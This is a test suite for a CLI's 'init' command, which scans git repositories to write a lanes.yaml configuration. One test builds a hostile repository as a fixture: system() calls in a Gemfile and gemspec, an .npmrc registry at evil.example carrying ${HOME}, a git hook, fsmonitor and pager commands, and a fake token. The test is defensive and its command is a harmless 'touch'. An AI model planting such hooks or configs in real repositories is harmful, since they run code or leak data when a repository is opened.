import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parseLanesYaml } from '@conduct/config'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { documentOf, type Ended, temporaryFolder } from './conduct-process.ts'
import { type Checkout, makeWorld, openCheckout, type World } from './guarded-repository.ts'

interface InitDocument {
  readonly ok: boolean
  readonly written: string | null
  readonly document: string
  readonly lanes: readonly string[]
  readonly trains: readonly string[]
  readonly gaps: readonly { readonly repo: string | null; readonly what: string }[]
  readonly steps: readonly string[]
  readonly error?: { readonly code: string; readonly message: string; readonly hint: string }
}

const initOf = (ended: Ended) => documentOf(ended) as unknown as InitDocument

const engineFiles = {
  'package.json': JSON.stringify({
    name: '@acme/engine',
    version: '1.1.0',
    scripts: { test: 'node --test' },
  }),
  'package-lock.json': '{ "lockfileVersion": 3 }\n',
}
const shopFiles = {
  'package.json': JSON.stringify({ private: true, dependencies: { '@acme/engine': '^1.0.0' } }),
  'pnpm-lock.yaml': "lockfileVersion: '9.0'\n",
  'db/migrate/20260101000000_create_orders.rb': 'class CreateOrders\nend\n',
  'db/schema.rb': '# dumped\n',
}

describe('init', () => {
  let folder: ReturnType<typeof temporaryFolder>
  let world: World
  let count = 0

  beforeAll(() => {
    folder = temporaryFolder()
    world = makeWorld(folder.path)
    // There is nothing to go by yet.
    rmSync(world.config)
  })
  afterAll(() => folder[Symbol.dispose]())

  function commit(path: string, files: Readonly<Record<string, string>>): Checkout {
    mkdirSync(path, { recursive: true })
    const checkout = openCheckout(path, world)
    checkout.git('init', '--quiet')
    for (const [name, text] of Object.entries(files)) checkout.write(name, text)
    checkout.git('add', '--all')
    checkout.git('commit', '--quiet', '--allow-empty', '--message', 'first')
    return checkout
  }

  /** A library and an app, side by side. */
  function estate(): { readonly at: string; readonly engine: Checkout; readonly shop: Checkout } {
    const at = join(folder.path, `estate-${(count += 1)}`)
    return { at, engine: commit(join(at, 'engine'), engineFiles), shop: commit(join(at, 'shop'), shopFiles) }
  }

  test('sets somebody new up who types nothing but init, guard install and what the messages say', async () => {
    const { engine, shop } = estate()
    const inShell = (command: string, checkout: Checkout) => {
      // As it is pasted: words behind the launcher, of which none is quoted here.
      const words = command.split(' ').slice(2)
      return checkout.conduct(...words)
    }

    const init = await engine.conduct('init', '.', '../shop')
    const steps = init.stdout.split('\n').map((line) => line.trim())
    const check = steps.find((line) => line.endsWith(' check')) ?? ''
    const installs = steps.filter((line) => line.endsWith(' guard install'))
    const installed = [await inShell(check, engine)]
    for (const install of installs) installed.push(await inShell(install, engine))
    shop.write('db/migrate/20260102000000_add_note.rb', 'class AddNote\nend\n')
    shop.git('add', '--all')
    const refused = shop.git('commit', '--message', 'Add a note')
    const told = /^Next: (.*)$/m.exec(refused.output)?.[1] ?? ''
    const taken = await inShell(told, shop)
    const passed = shop.git('commit', '--message', 'Add a note')
    engine.write('README.md', 'the engine\n')
    engine.git('add', '--all')
    const free = engine.git('commit', '--message', 'Say what it is')

    expect(init.exit).toBe(0)
    expect(installs).toHaveLength(2)
    expect(installed.map(({ exit }) => exit)).toEqual([0, 0, 0])
    expect(refused.exit).not.toBe(0)
    expect(refused.output).toContain('rails_migrations {shop} is needed, nobody holds it')
    expect(told).toMatch(/ lane acquire rails_migrations --repo shop$/)
    expect(taken.exit).toBe(0)
    expect(passed).toMatchObject({ exit: 0 })
    expect(free).toMatchObject({ exit: 0 })
  })

  test('writes what it found, says what it did not find, and prints the same without writing', async () => {
    const { engine } = estate()

    const printed = await engine.conduct('init', '.', '../shop', '--dry-run')
    const isWritten = existsSync(join(engine.path, 'lanes.yaml'))
    const document = initOf(await engine.conduct('init', '.', '../shop', '--json'))

    const text = readFileSync(join(engine.path, 'lanes.yaml'), 'utf8')
    const { config, findings } = parseLanesYaml({ file: 'lanes.yaml', text })
    expect(isWritten).toBe(false)
    expect(printed.stdout).toBe(text)
    expect(document).toMatchObject({
      ok: true,
      document: text,
      lanes: ['rails_migrations', 'release_train'],
      trains: ['engine'],
    })
    expect(document.gaps.map(({ repo, what }) => `${repo ?? ''}: ${what}`)).toEqual([
      'engine: It has no remote',
      'shop: It has no remote',
      'shop: No command that tests it',
      'shop: How it is deployed',
    ])
    expect(findings).toEqual([])
    expect(config?.trains.get('engine')?.consumers.map(({ repo, adopt }) => [repo, adopt])).toMatchObject([
      ['shop', { manager: 'pnpm' }],
    ])
    expect(config?.lanes.get('rails_migrations')?.triggers).toMatchObject({
      repos: ['shop'],
      paths: ['db/migrate/**/*.rb', 'db/schema.rb'],
    })
  })

  test('writes over nothing: neither there, nor beside, nor below, nor where git leads (INIT_EXISTS)', async () => {
    const { at, engine, shop } = estate()
    const mine = '# mine\n'
    const refusal = async (...args: readonly string[]) => {
      const ended = await engine.conduct('init', '--json', ...args)
      return [ended.exit, initOf(ended).error?.code]
    }
    const refused = [2, 'INIT_EXISTS']

    writeFileSync(join(engine.path, 'lanes.yaml'), mine)
    expect(await refusal()).toEqual(refused)
    expect(await refusal('-o', '../engine/lanes.yaml')).toEqual(refused)
    expect(readFileSync(join(engine.path, 'lanes.yaml'), 'utf8')).toBe(mine)
    rmSync(join(engine.path, 'lanes.yaml'))

    writeFileSync(join(engine.path, 'lanes.yml'), mine)
    expect(await refusal()).toEqual(refused)
    rmSync(join(engine.path, 'lanes.yml'))

    writeFileSync(join(at, 'lanes.yaml'), mine)
    expect(await refusal()).toEqual(refused)
    rmSync(join(at, 'lanes.yaml'))

    writeFileSync(join(shop.path, 'lanes.yaml'), mine)
    expect(await refusal('.', '../shop')).toEqual(refused)
    shop.git('config', 'conduct.config', 'git+ssh://git@acme.example/rules.git')
    rmSync(join(shop.path, 'lanes.yaml'))
    expect(await refusal('.', '../shop')).toEqual(refused)
    shop.git('config', '--unset', 'conduct.config')

    // A link that leads nowhere would be written through.
    symlinkSync(join(at, 'elsewhere.yaml'), join(engine.path, 'lanes.yaml'))
    expect(await refusal()).toEqual(refused)
    expect(existsSync(join(at, 'elsewhere.yaml'))).toBe(false)
    rmSync(join(engine.path, 'lanes.yaml'))

    // The control: without any of them it is written.
    expect(await refusal('.', '../shop')).toEqual([0, undefined])
  })

  test('is written by one of several who start at once', async () => {
    const { engine, shop } = estate()

    const ended = await Promise.all(
      ['.', '.', '../shop', '../shop'].map((repo) => engine.conduct('init', repo, '--json')),
    )

    const documents = ended.map(initOf)
    const won = documents.filter(({ ok }) => ok)
    expect(won).toHaveLength(1)
    expect(readFileSync(join(engine.path, 'lanes.yaml'), 'utf8')).toBe(won[0]?.document)
    expect(documents.filter(({ ok }) => !ok).map(({ error }) => error?.code)).toEqual(
      Array.from({ length: 3 }, () => 'INIT_EXISTS'),
    )
    expect(existsSync(join(shop.path, 'lanes.yaml'))).toBe(false)
  })

  test('says what it was given that is no repository, and which are below (INIT_NO_REPOSITORY)', async () => {
    const { at } = estate()
    const above = openCheckout(at, world)

    const nothing = initOf(await above.conduct('init', 'nothing', '--json')).error
    const parent = initOf(await above.conduct('init', '--json')).error
    const twice = initOf(await above.conduct('init', 'shop', './shop/db', '--json')).error
    const unwritable = initOf(await above.conduct('init', 'shop', '-o', 'no/such/lanes.yaml', '--json')).error
    const both = await above.conduct('init', 'engine', 'shop', '--json')

    expect(nothing?.code).toBe('INIT_NO_REPOSITORY')
    expect(parent).toMatchObject({
      code: 'INIT_NO_REPOSITORY',
      hint: expect.stringMatching(/ init engine shop$/),
    })
    expect(twice?.code).toBe('USAGE')
    expect(unwritable?.code).toBe('OUTPUT_UNWRITABLE')
    // Above both: their own folder gets the file, and gives the estate its name.
    expect(initOf(both)).toMatchObject({ written: join(at, 'lanes.yaml'), trains: ['engine'] })
    expect(initOf(both).document).toMatch(/^estate: estate-\d+ /m)
  })

  test('reads a remote by its address, at its default branch', async () => {
    const { at, engine } = estate()
    const bare = join(at, 'origin', 'library.git')
    engine.git('clone', '--quiet', '--bare', '.', bare)
    engine.git('remote', 'add', 'origin', `https://ana:hunter2-hunter2@git.acme.example/acme/library.git`)

    const remote = initOf(await engine.conduct('init', `file://${bare}`, '../shop', '--dry-run', '--json'))
    const checkout = initOf(await engine.conduct('init', '--dry-run', '--json'))

    expect(remote.document).toContain(`remote: file://${bare}\n`)
    expect(remote.trains).toEqual(['library'])
    expect(checkout.document).toContain('remote: https://git.acme.example/acme/library.git\n')
    expect(JSON.stringify(checkout)).not.toContain('hunter2')
    expect(checkout.gaps.map(({ what }) => what)).toContain(
      'The address of its remote holds a credential, which was left out',
    )
  })

  test('comes through a repository that means harm: nothing of it runs, and nothing of it is obeyed', async () => {
    const at = join(folder.path, 'hostile')
    const trap = join(at, 'trapped')
    const outside = join(folder.path, 'outside.json')
    writeFileSync(outside, JSON.stringify({ name: 'outside', version: '1.0.0', files: [] }))
    const touch = `touch ${trap}`
    const hostile = commit(join(at, 'a: b #{x}\u001b[31m'), {
      'package.json': '{ "name": "half',
      Gemfile: `system(${JSON.stringify(touch)})\ngem "engine: 1\\n# x", path: "../engine"\n`,
      'evil.gemspec': `system(${JSON.stringify(touch)})\nGem::Specification.new { |s| s.version = ENV['X'] }\n`,
      '.npmrc': 'registry=https://evil.example/${HOME}\n',
      'db/[x]*\n- y: "z"/migrations/001_a.sql': 'SELECT 1;\n',
      'ghp_abcdefghijklmnopqrstuvwxyz0123456789/migrations/001_a.sql': 'SELECT 1;\n',
      '.github/workflows/deploy.yml': `${'&a '.repeat(20)}[*a, *a]\nname: deploy\n`,
      'big/package.json': ' '.repeat(1024 * 1024 + 1),
    })
    hostile.git('update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},vendor/sub`)
    symlinkSync(outside, join(hostile.path, 'linked.gemspec'))
    symlinkSync('/', join(hostile.path, 'root'))
    hostile.git('add', 'linked.gemspec', 'root')
    hostile.git('commit', '--quiet', '--message', 'more')
    const branch = `"'#,!&|>%{x}`
    expect(hostile.git('branch', '--move', branch).exit).toBe(0)
    hostile.write('.git/hooks/post-checkout', `#!/bin/sh\n${touch}\n`)
    hostile.git('config', 'core.fsmonitor', touch)
    hostile.git('config', 'core.pager', touch)

    const ended = await hostile.conduct('init', '--json')

    const document = initOf(ended)
    const { config, findings } = parseLanesYaml({ file: 'lanes.yaml', text: document.document })
    expect(ended.exit).toBe(0)
    expect(existsSync(trap)).toBe(false)
    expect(findings).toEqual([])
    expect([...(config?.repos.values() ?? [])]).toMatchObject([{ remote: hostile.path, main: branch }])
    expect(config?.lanes.get('sql_migrations')?.triggers.paths).toEqual([
      'db/?x???- y? ?z?/migrations/**/*.sql',
    ])
    // Nothing but line ends and printable characters, so that no terminal is told anything.
    expect(document.document).not.toMatch(/[^\P{Cc}\n]/u)
    expect(document.document).not.toMatch(/outside|ghp_abc/)
    const told = document.gaps.map(({ what }) => what).join('\n')
    expect(told).toContain('package.json was left out')
    expect(told).toContain('evil.gemspec was left out')
    expect(told).toContain('linked.gemspec is a symbolic link')
    expect(told).toContain('vendor/sub is a submodule')
    expect(told).toContain('big/package.json')
  })

  test('makes a person captain, never the agent that types; and names the hooks of agents that are at home there', async () => {
    const { at, engine, shop } = estate()
    shop.write('.claude/settings.json', '{}\n')
    shop.git('add', '--all')
    shop.git('commit', '--quiet', '--message', 'settings')
    const to = join(at, 'rules.yaml')

    const byAgent = initOf(
      await engine.conduct('--as', 'agent:fleet-3', 'init', '.', '../shop', '-o', to, '--json'),
    )
    const byPerson = initOf(await engine.conduct('--as', 'cli:carl', 'init', '--dry-run', '--json'))

    const { config } = parseLanesYaml({ file: to, text: byAgent.document })
    const [login = ''] = [...(config?.people.keys() ?? [])]
    expect([...(config?.people ?? [])]).toMatchObject([
      [login, { kind: 'person' }],
      ['fleet', { kind: 'agent' }],
    ])
    expect(login).not.toBe('fleet')
    expect([...(config?.lanes.values() ?? [])].map(({ captains }) => captains)).toEqual([[login], [login]])
    expect(byPerson.document).toMatch(/^  carl: \{\}/m)
    // By that name nothing finds it: the hooks are told where it is.
    const installs = byAgent.steps.filter((step) => step.includes(' guard install'))
    expect(installs).toEqual([
      expect.stringMatching(/ -c \S+rules\.yaml .* guard install$/),
      expect.stringMatching(/ -c \S+rules\.yaml .*\/shop guard install --agent claude$/),
    ])
  })

  test('says that nothing is committed yet, and writes what there is to say', async () => {
    const at = join(folder.path, 'fresh')
    mkdirSync(at)
    const fresh = openCheckout(at, world)
    fresh.git('init', '--quiet')

    const document = initOf(await fresh.conduct('init', '--json'))
    const checked = await fresh.conduct('check', '--json')

    expect(document).toMatchObject({ ok: true, lanes: [], trains: [] })
    expect(document.gaps[1]?.what).toBe('Nothing is committed there yet')
    expect(checked.exit).toBe(0)
  })
})
